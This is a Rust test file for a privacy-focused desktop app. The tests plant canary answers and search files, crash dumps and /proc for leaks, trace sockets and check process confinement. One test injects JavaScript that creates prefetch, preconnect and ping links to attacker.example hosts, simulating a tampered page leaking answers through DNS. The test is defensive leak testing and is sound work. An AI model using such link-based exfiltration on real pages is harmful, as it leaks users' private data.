//! A whole session in the very program that ships, with answers that hold canaries: what the system
//! sees of it, and what lies on the disk after it.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use base64::Engine;
use base64::engine::GeneralPurpose;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use crate::canaries::{self, KINDS};
use crate::environment::{Running, TestEnvironment, kill, program_path};
use crate::first_launch::text_of;
use crate::reader::{Reader, Role};
use crate::shipped::{family, makes_a_vault, save_in_dialog, status};
use crate::waiting::wait_for;
use crate::words::say;

/// Words that stand nowhere but in what the tests type: a passphrase, the label of a case, a name.
pub(crate) const PASSPHRASE: &str = "quillonzebu harrowmint seventeen larks";
const PASSPHRASE_CANARY: &str = "quillonzebu";
pub(crate) const LABEL: &str = "Vexlabelmark";
pub(crate) const NAME: &str = "Zorqnamemark";

/// What must reach the PDF and no other place.
fn canaries() -> Vec<&'static str> {
    let kinds = KINDS.iter().flat_map(|(_, forms)| forms.iter().copied());
    std::iter::once(PASSPHRASE_CANARY).chain(kinds).collect()
}

/// From the first launch to a case with an answer.
pub(crate) fn interview(environment: &TestEnvironment, reader: &Reader) {
    makes_a_vault(environment, reader, PASSPHRASE);
    reader.types(environment, Role::Entry, say("ui-case-label"), LABEL);
    reader.press(Role::Button, say("ui-case-create"));
    reader.hears(Role::Heading, say("ui-home-new"));
    reader.press(Role::Button, say("section-about-you"));
    reader.hears(Role::Heading, say("ui-hiding-title"));
    reader.press(Role::Button, say("ui-continue"));
    reader.hears(Role::Heading, say("q-own-name"));
    reader.types(environment, Role::Entry, say("ui-party-name"), NAME);
    reader.press(Role::Button, say("ui-continue"));
    reader.hears(Role::Heading, say("q-birth-date"));
}

/// From the home of a case to the saved PDF.
fn report(environment: &TestEnvironment, reader: &Reader) -> PathBuf {
    reader.press(Role::Button, say("ui-foot-home"));
    reader.hears(Role::Heading, say("ui-home-title"));
    reader.press(Role::Button, say("ui-make-pdf"));
    reader.hears(Role::Heading, say("ui-make-pdf"));
    reader.press(Role::Button, say("ui-see-pages"));
    reader.hears(Role::Heading, say("ui-pages-title"));
    reader.press(Role::Button, say("ui-save-pdf"));
    let file = environment.saved().join("chosen.pdf");
    save_in_dialog(environment, &file);
    reader.hears(Role::Heading, say("ui-after-title"));
    file
}

/// From the start of the program to the list of cases.
fn unlock(environment: &TestEnvironment, reader: &Reader) {
    reader.hears(Role::Heading, say("ui-unlock-title"));
    reader.types(environment, Role::PasswordText, say("ui-passphrase"), PASSPHRASE);
    reader.press(Role::Button, say("ui-unlock"));
    reader.hears(Role::Heading, say("ui-cases-title"));
}

/// Starts the program over a vault with canaries and goes to the page of all answers.
pub(crate) fn shows_canary_answers(environment: &TestEnvironment, reader: &Reader) -> Running {
    canaries::keep(environment);
    let window = environment.start(&program_path("CANDOUR_WINDOW_SHIPPED"));
    unlock(environment, reader);
    reader.press(Role::Button, say("ui-case-open"));
    reader.hears(Role::Heading, say("ui-home-title"));
    reader.press(Role::Button, say("ui-see-answers"));
    reader.hears(Role::Heading, say("ui-check-title"));
    window
}

pub(crate) fn lock(reader: &Reader) {
    reader.press(Role::Button, say("ui-lock"));
    reader.hears(Role::Heading, say("ui-unlock-title"));
}

/// The forms in which a text can lie in a file: UTF-8, UTF-16 in both orders, escaped for JSON and
/// for addresses, and Base64 whatever stands before it.
fn forms(canary: &str) -> Vec<Vec<u8>> {
    let wide = |bytes: fn(u16) -> [u8; 2]| canary.encode_utf16().flat_map(bytes).collect();
    let escaped: String = canary.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect();
    let address: String = canary.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let mut forms = vec![
        canary.as_bytes().to_vec(),
        wide(u16::to_le_bytes),
        wide(u16::to_be_bytes),
        escaped.to_uppercase().replace("\\U", "\\u").into_bytes(),
        escaped.into_bytes(),
        address.to_lowercase().into_bytes(),
        address.into_bytes(),
    ];
    forms.extend((0..3).flat_map(|before| {
        [STANDARD, URL_SAFE].map(|engine| base64_inside(&engine, canary.as_bytes(), before))
    }));
    forms
}

/// The letters of Base64 that a text alone decides where `before` bytes stand before it.
fn base64_inside(engine: &GeneralPurpose, text: &[u8], before: usize) -> Vec<u8> {
    let whole = engine.encode([&vec![0; before], text].concat());
    let (first, end) = ((before * 8).div_ceil(6), (before + text.len()) * 8 / 6);
    whole.as_bytes()[first..end].to_vec()
}

fn holds(bytes: &[u8], canary: &str) -> bool {
    forms(canary).iter().any(|form| memchr::memmem::find(bytes, form).is_some())
}

/// Every file below a folder.
fn files(folder: &Path) -> Vec<PathBuf> {
    let mut open = vec![folder.to_owned()];
    let mut found = Vec::new();
    while let Some(folder) = open.pop() {
        for entry in std::fs::read_dir(&folder).into_iter().flatten().flatten() {
            match entry.file_type() {
                Ok(kind) if kind.is_dir() => open.push(entry.path()),
                Ok(kind) if kind.is_file() => found.push(entry.path()),
                _ => {}
            }
        }
    }
    found
}

/// Where canaries lie outside the chosen file: home, cache, state, temporary and runtime folders of
/// the environment, shared memory, the system's crash dumps. Gives the places and how many files it
/// read.
fn on_disk(environment: &TestEnvironment, chosen: &Path) -> (Vec<String>, usize) {
    let mut places = files(environment.home());
    for folder in ["/dev/shm", "/var/crash", "/var/lib/systemd/coredump"] {
        places.extend(files(Path::new(folder)));
    }
    let mut found = Vec::new();
    for place in places.iter().filter(|place| *place != chosen) {
        let name = place.display().to_string();
        let bytes = std::fs::read(place).unwrap_or_default();
        found.extend(
            canaries()
                .iter()
                .filter(|canary| holds(&bytes, canary) || name.contains(*canary))
                .map(|canary| format!("{canary} in {name}")),
        );
        // The text of a page is compressed and would not be found; so no page may lie there.
        if memchr::memmem::find(&bytes, b"%PDF-").is_some() {
            found.push(format!("a report in {name}"));
        }
    }
    (found, places.len())
}

/// The canaries in what a process tells everybody: its surroundings and its command line.
fn exposed_by_process(id: u32) -> Vec<String> {
    ["environ", "cmdline", "comm"]
        .iter()
        .flat_map(|file| {
            let bytes = std::fs::read(format!("/proc/{id}/{file}")).unwrap_or_default();
            canaries()
                .into_iter()
                .filter(move |canary| holds(&bytes, canary))
                .map(move |canary| format!("{canary} in {file} of {id}"))
        })
        .collect()
}

#[test]
fn the_search_finds_a_canary_in_every_form() {
    // Written by the program `base64`, with nothing, one letter and two letters before the canary.
    for written in ["Wm9ycW5hbWVtYXJr", "eFpvcnFuYW1lbWFyaw==", "eHhab3JxbmFtZW1hcms="] {
        assert!(holds(written.as_bytes(), NAME), "{written}");
    }
    for form in forms(NAME) {
        let among = [b"x/", form.as_slice(), b"=y"].concat();
        assert!(holds(&among, NAME), "{form:?}");
    }
    assert!(!holds(b"Zorqnamemar", NAME));
}

#[test]
fn a_traced_session_opens_local_sockets_alone() {
    let environment = TestEnvironment::new();
    let reader = Reader::at(&environment);
    let trace = environment.home().join("calls.trace");
    let window = environment.start_traced(
        &program_path("CANDOUR_WINDOW_SHIPPED"),
        &["-e", "trace=socket,connect,bind,sendto,io_uring_setup"],
        &trace,
    );
    interview(&environment, &reader);
    report(&environment, &reader);
    lock(&reader);
    drop(window);
    let calls = std::fs::read_to_string(&trace).unwrap();
    let local = calls.lines().filter(|line| line.contains("socket(AF_UNIX")).count();
    assert!(local > 0, "the trace saw nothing:\n{calls}");
    let opened: Vec<&str> = calls
        .lines()
        .filter(|line| line.contains(" socket(") && !line.contains("socket(AF_UNIX"))
        .filter(|line| !line.contains("EACCES"))
        .collect();
    assert_eq!(opened, Vec::<&str>::new(), "sockets that are not local");
    let reached: Vec<&str> =
        calls.lines().filter(|line| line.contains("sa_family=AF_INET")).collect();
    assert_eq!(reached, Vec::<&str>::new(), "an address of the internet was tried");
    println!("count: {local} local sockets in a traced session, 0 others");
}

/// Looks everywhere but in the chosen file, and gives how many files it read.
fn nowhere_else(environment: &TestEnvironment, chosen: &Path, when: &str) -> usize {
    let (found, read) = on_disk(environment, chosen);
    assert_eq!(found, Vec::<String>::new(), "{when}");
    read
}

/// Names the seed of a run that is to be repeated.
const SEED: &str = "CANDOUR_WINDOW_SEED";

/// What the random moments of this run come from.
fn seed() -> u64 {
    std::env::var(SEED).ok().map_or_else(|| rand::rng().random(), |seed| seed.parse().unwrap())
}

#[test]
fn canaries_in_every_kind_of_answer_reach_the_chosen_file_and_no_other_path() {
    let environment = TestEnvironment::new();
    let reader = Reader::at(&environment);
    let window = shows_canary_answers(&environment, &reader);
    let shown = reader.reads();
    for (what, forms) in KINDS.iter().filter(|(what, _)| *what != "the label") {
        assert!(forms.iter().any(|form| shown.contains(form)), "{what} is not shown:\n{shown}");
    }
    reader.press(Role::Button, say("ui-make-summary"));
    reader.hears(Role::Heading, say("ui-summary-title"));
    let chosen = report(&environment, &reader);
    let text = text_of(&chosen);
    for (what, forms) in KINDS {
        // The label is the person's own: it stands on their copy alone.
        let told = forms.iter().any(|form| text.contains(form));
        assert_eq!(told, *what != "the label", "{what} in the chosen file");
    }
    assert!(!text.contains(PASSPHRASE_CANARY), "the passphrase is in the report");
    let processes = family(window.id());
    let exposed: Vec<String> = processes.iter().flat_map(|id| exposed_by_process(*id)).collect();
    assert_eq!(exposed, Vec::<String>::new());
    let read = nowhere_else(&environment, &chosen, "while it runs");
    // Ended at any moment while it locks.
    let seed = seed();
    let delay = Duration::from_millis(StdRng::seed_from_u64(seed).random_range(0..400));
    reader.press(Role::Button, say("ui-lock"));
    std::thread::sleep(delay);
    kill(&format!("-{}", window.id()));
    drop(window);
    let when = format!("ended {delay:?} after Lock; {SEED}={seed} ends it there again");
    let after = nowhere_else(&environment, &chosen, &when);
    println!(
        "count: {} marks looked for in {} files and {} processes, found in the chosen file alone",
        canaries().len(),
        read + after,
        processes.len()
    );
}

#[test]
fn what_is_typed_by_hand_is_in_no_file_when_the_window_is_killed() {
    let environment = TestEnvironment::new();
    let reader = Reader::at(&environment);
    let window = environment.start(&program_path("CANDOUR_WINDOW_SHIPPED"));
    interview(&environment, &reader);
    let planted = environment.home().join(".cache/planted");
    std::fs::create_dir_all(planted.parent().unwrap()).unwrap();
    std::fs::write(&planted, &forms(NAME)[2]).unwrap();
    let none = environment.saved().join("none.pdf");
    let (found, _) = on_disk(&environment, &none);
    assert_eq!(found.len(), 1, "the search does not find what was planted: {found:?}");
    std::fs::remove_file(&planted).unwrap();
    nowhere_else(&environment, &none, "while it runs");
    kill(&format!("-{}", window.id()));
    drop(window);
    nowhere_else(&environment, &none, "after the end");
}

/// Takes from what it starts every right that the administrator has over others' processes.
const WITHOUT_RIGHTS: [&str; 2] = ["--bounding-set=-all", "--inh-caps=-all"];

#[test]
fn no_process_of_the_window_leaves_a_core_and_its_own_is_read_by_nobody() {
    let environment = TestEnvironment::new();
    let reader = Reader::at(&environment);
    let starter = environment.home().join("start");
    let program = program_path("CANDOUR_WINDOW_SHIPPED");
    let line = format!("#!/bin/sh\nexec setpriv {} {:?}\n", WITHOUT_RIGHTS.join(" "), program);
    std::fs::write(&starter, line).unwrap();
    std::fs::set_permissions(&starter, std::fs::Permissions::from_mode(0o700)).unwrap();
    let window = environment.start(&starter);
    reader.hears(Role::Heading, say("ui-welcome-title"));
    for id in family(window.id()) {
        let limits = std::fs::read_to_string(format!("/proc/{id}/limits")).unwrap();
        let core = limits.lines().find(|line| line.starts_with("Max core file size")).unwrap();
        assert_eq!(core.split_whitespace().nth(4), Some("0"), "{}: {core}", status(id, "Name"));
    }
    // Who may read the surroundings of a process may trace it: the kernel asks the same question.
    let read = |id: u32| {
        let mut command = Command::new("setpriv");
        command.args(WITHOUT_RIGHTS).args(["cat", &format!("/proc/{id}/environ")]);
        command.output().unwrap().status.success()
    };
    assert!(!read(window.id()), "another program of the same person reads the process");
    let others = family(window.id()).into_iter().any(read);
    assert!(others, "the reader reads nothing at all");
}

#[test]
fn a_start_that_the_system_will_not_confine_is_refused_unless_asked_for_by_name() {
    let environment = TestEnvironment::new();
    let reader = Reader::at(&environment);
    let program = program_path("CANDOUR_WINDOW_SHIPPED");
    let refusing = ["-e", "trace=seccomp", "-e", "inject=seccomp:error=EPERM"];
    let trace = environment.home().join("refusal.trace");
    let mut tried = environment.start_traced(&program, &refusing, &trace);
    assert!(!tried.ends().success(), "it started without confinement");
    assert!(environment.logs().contains("Candour did not start"), "{}", environment.logs());
    let _window =
        environment.start_traced_with(&program, &["--without-confinement"], &refusing, &trace);
    for (button, title) in [
        ("", "ui-welcome-title"),
        ("ui-welcome-start", "ui-safety-title"),
        ("ui-safety-stay", "ui-doors-title"),
        ("ui-door-questions", "ui-create-title"),
    ] {
        if !button.is_empty() {
            reader.press(Role::Button, say(button));
        }
        reader.hears(Role::Heading, say(title));
        wait_for(
            || format!("the notice on {title}\n{}", reader.says()),
            || reader.reads().contains(say("unconfined")).then_some(()),
        );
    }
    environment.picture("43-shipped-unconfined");
}

/// A page that is tampered with could hide an answer in a name that is looked up ahead, which no
/// policy of the page holds back.
#[test]
fn a_name_in_the_page_is_looked_up_by_nobody() {
    let environment = TestEnvironment::new();
    let window = environment.open_window();
    window.reaches("ui-welcome-title");
    let all: Vec<u32> = window.program_ids().into_iter().flat_map(family).collect();
    let network = all.into_iter().find(|id| status(*id, "Name").starts_with("WebKitNet"));
    let network = network.expect("the web view has a process for the network").to_string();
    let trace = environment.home().join("trace");
    let mut tracer = environment.command("strace");
    tracer.args(["-f", "-qq", "-s", "4096", "-p", &network, "-o"]).arg(&trace);
    tracer.args(["-e", "trace=connect,sendto,sendmsg,openat,recvmsg"]);
    let mut tracer = tracer.spawn().unwrap();
    wait_for(
        || "the tracer".to_owned(),
        || (status(network.parse().unwrap(), "TracerPid") != "0").then_some(()),
    );
    // What is stored goes to the same process after what the links ask of it, and once more when
    // it had time to act.
    window.ask(
        "for (const rel of ['dns-prefetch', 'preload', 'prefetch', 'preconnect']) {\
           const link = document.createElement('link');\
           link.rel = rel;\
           link.href = `https://an-answer-by-${rel}.attacker.example`;\
           document.head.append(link);\
         }\
         const link = document.createElement('a');\
         link.href = '#';\
         link.ping = 'https://an-answer-by-ping.attacker.example';\
         document.body.append(link);\
         link.click();\
         localStorage.setItem('heard-at-once', '1');\
         setTimeout(() => localStorage.setItem('heard-after-a-while', '1'), 2000);",
        &[],
    );
    let traced = || std::fs::read_to_string(&trace).unwrap_or_default();
    for mark in ["heard-at-once", "heard-after-a-while"] {
        wait_for(|| format!("{mark}\n{}", traced()), || traced().contains(mark).then_some(()));
    }
    for sign in ["nscd", "htons(", "/etc/hosts", "resolve", "avahi"] {
        assert!(!traced().contains(sign), "a name was looked up ({sign}):\n{}", traced());
    }
    kill(&tracer.id().to_string());
    let _ = tracer.wait();
}
